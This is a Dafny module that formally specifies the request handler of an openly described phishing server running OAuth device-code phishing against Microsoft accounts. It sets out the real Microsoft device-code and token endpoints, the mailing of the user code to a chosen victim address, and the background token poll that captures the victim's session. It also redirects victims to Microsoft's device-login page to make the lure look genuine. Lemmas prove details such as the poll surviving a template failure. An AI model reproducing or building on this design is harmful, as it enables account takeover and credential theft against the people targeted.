/**
 * The phishing server's single route: a GET with an `email` query
 * parameter starts an OAuth 2.0 device authorization grant (RFC 8628,
 * section 3.1 and 3.2) for that address, hands the token poll to an
 * `AuthPoll`, mails the user code to the address, and answers with a
 * redirect to a Microsoft page, or with a 500 when the reply cannot be read.
 *
 * Outbound requests are oracles: the handler receives the device-code reply
 * as a parameter and returns the requests, the poll and the mail it starts.
 */
module Server {
  import opened Strings

  const HomeUrl := "https://microsoft.com/"
  const DeviceLoginUrl := "https://microsoft.com/devicelogin"
  const DeviceCodeUrl := "https://login.microsoftonline.com/organizations/oauth2/v2.0/devicecode"
  const TokenUrl := "https://login.microsoftonline.com/organizations/oauth2/v2.0/token"
  const DeviceCodeGrant := "urn:ietf:params:oauth:grant-type:device_code"

  /** Headers of the device-code POST: a form-encoded body. */
  const FormHeaders: map<string, string> := map["Content-Type" := "application/x-www-form-urlencoded"]

  // ---------------------------------------------------------------------
  // route

  /** The served path: `/` followed by the configured ENDPOINT with every leading and trailing `/` removed. */
  function Route(endpoint: string): (r: string)
    ensures |r| >= 1 && r[0] == '/'
    ensures |r| == 1 || (r[1] != '/' && r[|r| - 1] != '/')
  {
    var s := Strip(endpoint, {'/'});
    assert ("/" + s)[1..] == s;
    "/" + s
  }

  /** After its leading `/`, the route is a contiguous part of ENDPOINT, and only `/` characters were cut off around it. */
  lemma RouteIsEndpointPart(endpoint: string)
    ensures exists i :: StrippedAt(endpoint, {'/'}, i, Route(endpoint)[1..])
  {
    var i := StripOffset(endpoint, {'/'});
    assert Route(endpoint)[1..] == Strip(endpoint, {'/'});
  }

  /** `mfa`, `/mfa`, `mfa/` and `//mfa//` configure the same route. */
  lemma RouteIgnoresSurroundingSlashes(endpoint: string)
    ensures Route("/" + endpoint) == Route(endpoint)
    ensures Route(endpoint + "/") == Route(endpoint)
  {
    StripAbsorbs(endpoint, '/', {'/'});
  }

  // ---------------------------------------------------------------------
  // email validation

  predicate IsLetter(c: char) { 'A' <= c <= 'Z' || 'a' <= c <= 'z' }
  predicate IsDigit(c: char) { '0' <= c <= '9' }
  /** A character `\b` counts as part of a word when it is ASCII. */
  predicate IsWordChar(c: char) { IsLetter(c) || IsDigit(c) || c == '_' }
  /** `[A-Za-z0-9._#%+-]` */
  predicate IsLocalChar(c: char) { IsLetter(c) || IsDigit(c) || c in {'.', '_', '#', '%', '+', '-'} }
  /** `[A-Za-z0-9.-]` */
  predicate IsDomainChar(c: char) { IsLetter(c) || IsDigit(c) || c in {'.', '-'} }
  /** `[A-Z|a-z]`: the `|` inside the class is a literal character. */
  predicate IsTldChar(c: char) { IsLetter(c) || c == '|' }

  /**
   * `s` matches `^\b[A-Za-z0-9._#%+-]+@[A-Za-z0-9.-]+\.[A-Z|a-z]{2,}\b$`
   * with the `@` at `at` and the dot before the top-level domain at `dot`.
   * The word boundaries require a word character at both ends.
   */
  predicate EmailShape(s: string, at: int, dot: int)
  {
    && 0 < at && at + 1 < dot && dot + 2 < |s|
    && s[at] == '@' && s[dot] == '.'
    && (forall k :: 0 <= k < at ==> IsLocalChar(s[k]))
    && (forall k :: at < k < dot ==> IsDomainChar(s[k]))
    && (forall k :: dot < k < |s| ==> IsTldChar(s[k]))
    && IsWordChar(s[0]) && IsWordChar(s[|s| - 1])
  }

  /** `re.fullmatch` of the address regex. */
  predicate ValidEmail(s: string)
  {
    exists at, dot | 0 <= at < |s| && 0 <= dot < |s| :: EmailShape(s, at, dot)
  }

  /**
   * What a validated address is like: exactly one `@`, a word character
   * first, an ASCII letter last, and only printable ASCII other than `/`
   * (so no whitespace), so it is safe
   * to use as a file name in the working directory.
   */
  lemma ValidEmailFacts(s: string)
    requires ValidEmail(s)
    ensures CountChar(s, '@') == 1
    ensures IsWordChar(s[0]) && IsLetter(s[|s| - 1])
    ensures '/' !in s
    ensures forall k :: 0 <= k < |s| ==> '!' <= s[k] <= '~'
  {
    var at, dot :| 0 <= at < |s| && 0 <= dot < |s| && EmailShape(s, at, dot);
    OneAt(s, at, dot);
    NoSlashOrSpace(s, at, dot);
  }

  lemma OneAt(s: string, at: int, dot: int)
    requires EmailShape(s, at, dot)
    ensures CountChar(s, '@') == 1
  {
    var before, after := s[..at], s[at + 1..];
    assert s == before + (['@'] + after);
    CountCharAppend(before, ['@'] + after, '@');
    CountCharAppend(['@'], after, '@');
    assert '@' !in before by {
      forall k | 0 <= k < at
        ensures before[k] != '@'
      {
        assert IsLocalChar(s[k]);
      }
    }
    assert '@' !in after by {
      forall k | at + 1 <= k < |s|
        ensures s[k] != '@'
      {
        if k < dot {
          assert IsDomainChar(s[k]);
        } else if k > dot {
          assert IsTldChar(s[k]);
        }
      }
    }
    CountCharAbsent(before, '@');
    CountCharAbsent(after, '@');
  }

  /** Every character the address regex admits is printable ASCII other than `/`. */
  lemma NoSlashOrSpace(s: string, at: int, dot: int)
    requires EmailShape(s, at, dot)
    ensures forall k :: 0 <= k < |s| ==> '!' <= s[k] <= '~' && s[k] != '/'
  {
    forall k | 0 <= k < |s|
      ensures '!' <= s[k] <= '~' && s[k] != '/'
    {
      if k < at {
        assert IsLocalChar(s[k]);
      } else if at < k < dot {
        assert IsDomainChar(s[k]);
      } else if dot < k {
        assert IsTldChar(s[k]);
      }
    }
  }

  /** The address used by the server tests passes. */
  lemma TestAddressIsValid()
    ensures ValidEmail("test@test.com")
  {
    assert EmailShape("test@test.com", 4, 9);
  }

  /** The top-level-domain class admits `|`, so an address such as `a@b.c|d` passes. */
  lemma PipeInTopLevelDomainIsValid()
    ensures ValidEmail("a@b.c|d")
  {
    assert EmailShape("a@b.c|d", 1, 3);
  }

  /** An address needs a dot after the `@`, and must not end in a digit. */
  lemma RejectedAddresses()
    ensures !ValidEmail("test@testcom")
    ensures !ValidEmail("test@test.c0m1")
  {
    var s := "test@testcom";
    forall at, dot | 0 <= at < |s| && 0 <= dot < |s|
      ensures !EmailShape(s, at, dot)
    {
      if s[dot] == '.' {
        assert false;
      }
    }
  }

  // ---------------------------------------------------------------------
  // the request handler

  /** The SERVER settings the handler reads (each already through the quote-stripping `get`). */
  datatype Settings = Settings(endpoint: string, clientId: string, scope: string,
                               emailTemplate: string, subject: string, fromEmail: string)

  /** A GET request: its path and the first `email` query parameter, if any. */
  datatype Request = Request(path: string, email: Option<string>)

  /** The keys of the device-code reply's JSON body that the handler reads; each may be missing. */
  datatype DeviceCodeBody = DeviceCodeBody(message: Option<string>, deviceCode: Option<string>, userCode: Option<string>,
                                           expiresIn: int, interval: int)

  /**
   * The outcome of the device-code POST: a connection error (caught), any
   * other request exception (not caught), or a reply whose body may not be
   * JSON (`body` is None).
   */
  datatype DeviceCodeReply =
    | ConnectionFailed
    | RequestFailed
    | DeviceCodeReplied(status: int, body: Option<DeviceCodeBody>)

  /** A POST the handler sends: url, form fields in order, headers. */
  datatype FormPost = FormPost(url: string, form: seq<(string, string)>, headers: map<string, string>)

  /** The poll the handler starts: the fixed inputs of an `AuthPoll`. */
  datatype PollStart = PollStart(targetEmail: string, url: string, form: seq<(string, string)>,
                                 expiresIn: int, interval: int)

  /** The mail carrying the user code to the target. */
  datatype Mail = Mail(template: string, subject: string, fromEmail: string, toEmail: string, userCode: string)

  /**
   * The response (a 302 with its location, or a 500 when the handler
   * raises) and everything the request set going.
   */
  datatype Handled = Handled(status: int, location: Option<string>, deviceCodePost: Option<FormPost>,
                             poll: Option<PollStart>, mail: Option<Mail>)

  /** Python truthiness of the `email` parameter: absent or empty is false. */
  predicate Truthy(v: Option<string>) { v.Some? && v.value != "" }

  /** The request reaches the device-code flow: the right path and a valid address after stripping. */
  predicate Accepted(settings: Settings, req: Request)
  {
    req.path == Route(settings.endpoint) && Truthy(req.email) && ValidEmail(Strip(req.email.value, Whitespace))
  }

  /** A 200 reply whose JSON body has `message` and `device_code`: the poll is started. */
  predicate StartsPoll(reply: DeviceCodeReply)
  {
    && reply.DeviceCodeReplied? && reply.status == 200 && reply.body.Some?
    && reply.body.value.message.Some? && reply.body.value.deviceCode.Some?
  }

  /**
   * An accepted request makes the handler raise: a request exception other
   * than a connection error, a body that is not JSON (read on every status),
   * a 200 body without `message`, `device_code` or `user_code`, or a
   * template that does not take the user code (`formats` is false).
   */
  predicate Raises(reply: DeviceCodeReply, formats: bool)
  {
    || reply.RequestFailed?
    || (reply.DeviceCodeReplied? && reply.body.None?)
    || (reply.DeviceCodeReplied? && reply.status == 200 && reply.body.Some? && !StartsPoll(reply))
    || (StartsPoll(reply) && (reply.body.value.userCode.None? || !formats))
  }

  /**
   * The 404 handler and `run_devicecode_flow` together. A wrong path, a
   * missing or empty `email` or an invalid address is redirected to the
   * Microsoft home page and sends nothing. Otherwise the device code is
   * requested; a well-formed outcome is redirected to the device login
   * page, one the handler cannot read is a 500. The poll starts once the
   * device code has been read, and the mail is sent when `user_code` is
   * present and `email_template % user_code` succeeds (`formats`).
   */
  function Handle(settings: Settings, req: Request, reply: DeviceCodeReply, formats: bool): (h: Handled)
    ensures h.status == 302 || h.status == 500
    ensures h.status == 500 <==> Accepted(settings, req) && Raises(reply, formats)
    ensures h.location.Some? <==> h.status == 302
    ensures h.location == Some(HomeUrl) <==> !Accepted(settings, req)
    ensures h.location.Some? ==> h.location.value == HomeUrl || h.location.value == DeviceLoginUrl
    ensures h.deviceCodePost.Some? <==> Accepted(settings, req)
    ensures h.deviceCodePost.Some? ==>
      h.deviceCodePost.value == FormPost(DeviceCodeUrl, [("client_id", settings.clientId), ("scope", settings.scope)], FormHeaders)
    ensures h.poll.Some? <==> Accepted(settings, req) && StartsPoll(reply)
    ensures h.poll.Some? ==>
      && h.poll.value.targetEmail == Strip(req.email.value, Whitespace)
      && ValidEmail(h.poll.value.targetEmail)
      && h.poll.value.url == TokenUrl
      && h.poll.value.form == [("grant_type", DeviceCodeGrant), ("code", reply.body.value.deviceCode.value), ("client_id", settings.clientId)]
      && h.poll.value.expiresIn == reply.body.value.expiresIn && h.poll.value.interval == reply.body.value.interval
    ensures h.mail.Some? <==> h.poll.Some? && reply.body.value.userCode.Some? && formats
    ensures h.mail.Some? ==>
      h.mail.value == Mail(settings.emailTemplate, settings.subject, settings.fromEmail, h.poll.value.targetEmail,
                           reply.body.value.userCode.value)
  {
    if req.path != Route(settings.endpoint) then Handled(302, Some(HomeUrl), None, None, None)
    else if !Truthy(req.email) then Handled(302, Some(HomeUrl), None, None, None)
    else
      var target := Strip(req.email.value, Whitespace);
      if !ValidEmail(target) then Handled(302, Some(HomeUrl), None, None, None)
      else
        var post := FormPost(DeviceCodeUrl, [("client_id", settings.clientId), ("scope", settings.scope)], FormHeaders);
        match reply
        case ConnectionFailed => Handled(302, Some(DeviceLoginUrl), Some(post), None, None)
        case RequestFailed => Handled(500, None, Some(post), None, None)
        case DeviceCodeReplied(status, None) => Handled(500, None, Some(post), None, None)
        case DeviceCodeReplied(status, Some(body)) =>
          if status != 200 then Handled(302, Some(DeviceLoginUrl), Some(post), None, None)
          else if body.message.None? || body.deviceCode.None? then Handled(500, None, Some(post), None, None)
          else
            var poll := PollStart(target, TokenUrl,
                                  [("grant_type", DeviceCodeGrant), ("code", body.deviceCode.value), ("client_id", settings.clientId)],
                                  body.expiresIn, body.interval);
            if body.userCode.None? || !formats then Handled(500, None, Some(post), Some(poll), None)
            else
              var mail := Mail(settings.emailTemplate, settings.subject, settings.fromEmail, target, body.userCode.value);
              Handled(302, Some(DeviceLoginUrl), Some(post), Some(poll), Some(mail))
  }

  /** Surrounding whitespace in the `email` parameter is ignored: the padded address is accepted. */
  lemma PaddedAddressAccepted(settings: Settings, email: string)
    requires ValidEmail(email)
    ensures Accepted(settings, Request(Route(settings.endpoint), Some(" " + email + "\n")))
  {
    StripPadding(email);
  }

  lemma StripPadding(email: string)
    requires ValidEmail(email)
    ensures Strip(" " + email + "\n", Whitespace) == email
  {
    ValidEmailFacts(email);
    PrintableIsNotWhitespace(email[0]);
    PrintableIsNotWhitespace(email[|email| - 1]);
    assert ' ' in Whitespace && '\n' in Whitespace;
    StripSurrounded(email, Whitespace);
  }

  lemma StripSurrounded(e: string, chars: set<char>)
    requires e != [] && e[0] !in chars && e[|e| - 1] !in chars
    requires ' ' in chars && '\n' in chars
    ensures Strip(" " + e + "\n", chars) == e
  {
    var t := e + ['\n'];
    assert " " + e + "\n" == [' '] + t;
    calc {
      Strip([' '] + t, chars);
      { StripAbsorbs(t, ' ', chars); }
      Strip(t, chars);
      { StripAbsorbs(e, '\n', chars); }
      Strip(e, chars);
      { StripUnchanged(e, chars); }
      e;
    }
  }

  /**
   * A request for another path, or without a usable `email`, goes to the
   * home page. An accepted request whose device-code outcome the handler
   * can read (a connection error, a refusal with a JSON body, or a
   * complete reply and a template that takes the code) goes to the device
   * login page.
   */
  lemma RedirectTargets(settings: Settings, path: string, email: Option<string>, reply: DeviceCodeReply, formats: bool)
    ensures path != Route(settings.endpoint) ==> Handle(settings, Request(path, email), reply, formats).location == Some(HomeUrl)
    ensures email.None? || email == Some("") ==> Handle(settings, Request(path, email), reply, formats).location == Some(HomeUrl)
    ensures Accepted(settings, Request(path, email)) && !Raises(reply, formats) ==>
      Handle(settings, Request(path, email), reply, formats).location == Some(DeviceLoginUrl)
  {
  }

  /**
   * The poll is started before the mail is composed, so a template the user
   * code cannot be formatted into ends the request with a 500 while the
   * token poll for the address goes on.
   */
  lemma PollOutlivesTemplateFailure(settings: Settings, req: Request, reply: DeviceCodeReply)
    requires Accepted(settings, req) && StartsPoll(reply)
    ensures Handle(settings, req, reply, false).status == 500
    ensures Handle(settings, req, reply, false).poll.Some?
    ensures Handle(settings, req, reply, false).mail.None?
  {
  }

  /** A poll is only ever started for an address that is safe to use as a file name. */
  lemma PollTargetIsSafeFileName(settings: Settings, req: Request, reply: DeviceCodeReply, formats: bool)
    requires Handle(settings, req, reply, formats).poll.Some?
    ensures '/' !in Handle(settings, req, reply, formats).poll.value.targetEmail
    ensures CountChar(Handle(settings, req, reply, formats).poll.value.targetEmail, '@') == 1
  {
    ValidEmailFacts(Handle(settings, req, reply, formats).poll.value.targetEmail);
  }
}
